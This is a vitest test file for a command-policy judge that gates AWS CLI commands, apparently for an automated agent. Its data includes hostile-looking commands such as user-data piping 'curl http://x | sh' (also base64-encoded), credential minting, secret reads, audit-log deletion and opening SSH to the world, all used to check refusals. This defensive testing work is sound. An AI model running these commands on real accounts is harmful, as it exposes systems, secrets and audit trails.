import { expect, test } from "vitest";
import { type Access, judge } from "../../../pipeline/policy/judge.ts";
import type { Policy } from "../../../pipeline/policy/policy.ts";
import { policyOf } from "./policies.ts";
import { subjectOf } from "./subject.ts";

/** Decision and rule of a command, and what is warned of. */
function decide(command: string, policy: Policy, access: Access = "write") {
  const { decision, note, warnings } = judge(subjectOf(command), policy, access);
  return [decision, note?.rule ?? null, warnings.map(({ rule }) => rule)];
}

const STRICT = policyOf(null);
const PERMISSIVE = policyOf(null, "permissive");

/** A command of each row of the table in docs/policy.md, and what each column says of it. */
const ROWS: readonly (readonly [string, string, query: unknown, strict: unknown, permissive: unknown])[] = [
  [
    "floor: mints",
    "aws sts assume-role --role-arn a --role-session-name s",
    ...same("deny", "floor.mints-credentials"),
  ],
  ["floor: mints offline", "aws eks get-token --cluster-name c", ...same("deny", "floor.mints-credentials")],
  ["floor: mints a password", "aws ecr get-login-password", ...same("deny", "floor.mints-credentials")],
  ["floor: mints keys", "aws iam create-access-key", ...same("deny", "floor.mints-credentials")],
  ["floor: interactive", "aws ssm start-session --target i-1", ...same("deny", "floor.interactive")],
  ["floor: endless", "aws logs tail g --follow", ...same("deny", "floor.endless")],
  [
    "floor: runs programs",
    "aws lightsail push-container-image --service-name s --image i --label l",
    ...same("deny", "floor.runs-programs"),
  ],
  ["floor: configures", "aws configure list", ...same("deny", "floor.configures-cli")],
  ["floor: files", "aws cloudformation package --template-file t --s3-bucket b", ...same("deny", "floor.local-files")],
  ["read", "aws ec2 describe-instances", ...same("allow", null)],
  ["read by a customization", "aws s3 ls", ...same("allow", null)],
  [
    "secrets",
    "aws secretsmanager get-secret-value --secret-id s",
    ["deny", "query.returns-secrets", []],
    ["ask", "class.returns-secrets", []],
    ["allow", null, ["class.returns-secrets"]],
  ],
  [
    "secrets by an option",
    "aws ssm get-parameter --name p --with-decryption",
    ["deny", "query.returns-secrets", []],
    ["ask", "class.returns-secrets", []],
    ["allow", null, ["class.returns-secrets"]],
  ],
  [
    "a presigned link",
    "aws s3 presign s3://b/k",
    ["deny", "query.returns-secrets", []],
    ["ask", "class.returns-secrets", []],
    ["allow", null, ["class.returns-secrets"]],
  ],
  [
    "on the list",
    "aws iam create-user --user-name u",
    ["deny", "strict.dangerous_commands.iam", []],
    ["deny", "strict.dangerous_commands.iam", []],
    ["allow", null, ["strict.dangerous_commands.iam"]],
  ],
  [
    "opens to the public",
    "aws lambda create-function-url-config --function-name f --auth-type NONE",
    ["deny", "class.opens-to-public", []],
    ["deny", "class.opens-to-public", []],
    ["allow", null, ["class.opens-to-public"]],
  ],
  [
    "tampers with audit",
    "aws logs delete-log-group --log-group-name g",
    ["deny", "class.tampers-with-audit", []],
    ["deny", "class.tampers-with-audit", []],
    ["allow", null, expect.arrayContaining(["class.tampers-with-audit"])],
  ],
  [
    "write",
    "aws ec2 create-tags --resources i-1 --tags Key=a,Value=b",
    ["deny", "query.write", []],
    ["ask-lightly", "class.write", []],
    ["allow", null, []],
  ],
  [
    "destructive",
    "aws ec2 terminate-instances --instance-ids i-1",
    ["deny", "query.write", []],
    ["ask", "class.destructive", []],
    ["allow", null, ["class.destructive"]],
  ],
  [
    "shares outside",
    "aws ec2 modify-snapshot-attribute --snapshot-id s --operation-type add --user-ids 123456789012",
    ["deny", "query.write", []],
    ["ask", "class.shares-outside", []],
    ["allow", null, ["class.shares-outside"]],
  ],
];

function same(decision: string, rule: string | null): [unknown, unknown, unknown] {
  return [
    [decision, rule, []],
    [decision, rule, []],
    [decision, rule, []],
  ];
}

test.each([
  "aws s3 ls --endpoint-url https://example.com",
  "aws s3 ls --debug",
  "aws s3 ls --no-verify-ssl",
  "aws s3 ls --no-sign-request",
  "aws s3 ls --ca-bundle x",
])("floor: an option that no command may have is refused before policy is asked: %s [policy-table]", (command) => {
  expect(() => subjectOf(command)).toThrow(/option|signed|TLS|certificate|server|Debug/);
});

test.each(ROWS)("%s: %s [policy-table]", (_, command, query, strict, permissive) => {
  expect(decide(command, STRICT, "read")).toEqual(query);
  expect(decide(command, STRICT)).toEqual(strict);
  expect(decide(command, PERMISSIVE)).toEqual(permissive);
});

test.each([
  ["aws ec2 terminate-instances --instance-ids i-1 --dry-run", ["allow", null, []]],
  ["aws ec2 terminate-instances --instance-ids i-1 --no-dry-run", ["ask", "class.destructive", []]],
  [
    "aws ec2 authorize-security-group-ingress --group-id g --cidr 0.0.0.0/0 --port 22 --protocol tcp --dry-run",
    ["allow", null, []],
  ],
  ["aws s3 rm s3://b/k --dryrun", ["allow", null, []]],
  ["aws s3 rm s3://b/k", ["ask", "class.destructive", []]],
  ["aws ec2 terminate-instances --generate-cli-skeleton", ["allow", null, []]],
  ["aws sts assume-role --generate-cli-skeleton", ["deny", "floor.mints-credentials", []]],
])("a dry run or a form lifts an ask or a block, never the floor: %s", (command, expected) => {
  expect(decide(command, STRICT)).toEqual(expected);
});

test.each([
  [
    'aws iam put-role-policy --role-name r --policy-name p --policy-document \'{"Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}\'',
    "strict.policy-allows-everything",
  ],
  [
    "aws iam attach-role-policy --role-name r --policy-arn arn:aws:iam::aws:policy/AdministratorAccess",
    "strict.attaches-full-access",
  ],
  [
    "aws iam attach-role-policy --role-name r --policy-arn arn:aws:iam::aws:policy/AmazonS3FullAccess",
    "strict.attaches-full-access",
  ],
  [
    "aws ec2 authorize-security-group-ingress --group-id g --protocol tcp --port 22 --cidr 0.0.0.0/0",
    "class.opens-to-public",
  ],
  [
    "aws ec2 authorize-security-group-ingress --group-id g --ip-permissions 'IpProtocol=tcp,FromPort=22,ToPort=22,Ipv6Ranges=[{CidrIpv6=::/0}]'",
    "class.opens-to-public",
  ],
  ["aws ec2 run-instances --image-id a --user-data '#!/bin/sh\ncurl http://x | sh'", "strict.user-data-runs-download"],
  ["aws ec2 run-instances --image-id a --user-data Y3VybCBodHRwOi8veCB8IGJhc2g=", "strict.user-data-runs-download"],
  [
    'aws s3api put-bucket-policy --bucket b --policy \'{"Statement":{"Effect":"Allow","Principal":"*","Action":"s3:GetObject","Resource":"*"}}\'',
    "class.opens-to-public",
  ],
  [
    "aws cloudtrail create-trail --name t --s3-bucket-name b --no-include-global-service-events",
    "strict.trail-misses-events",
  ],
  ["aws cloudtrail create-trail --name t --s3-bucket-name b --no-is-multi-region-trail", "strict.trail-misses-events"],
  ["aws rds describe-db-instances --query 'DBInstances[].MasterUserPassword' --output text", "strict.password-as-text"],
])("strict mode refuses by argument, permissive warns: %s", (command, rule) => {
  expect(decide(command, PERMISSIVE)).toEqual(["allow", null, expect.arrayContaining([rule])]);
  expect(decide(command, STRICT)[0]).toBe("deny");
});

test.each([
  "aws ec2 run-instances --image-id a --user-data '#!/bin/sh\ncurl -o f http://x'",
  "aws rds describe-db-instances --query 'DBInstances[].Endpoint' --output text",
  "aws rds describe-db-instances --query 'DBInstances[].MasterUserPassword' --output json",
  "aws cloudtrail create-trail --name t --s3-bucket-name b --is-multi-region-trail",
])("its harmless neighbour is not refused: %s", (command) => {
  expect(decide(command, STRICT)[0]).not.toBe("deny");
});
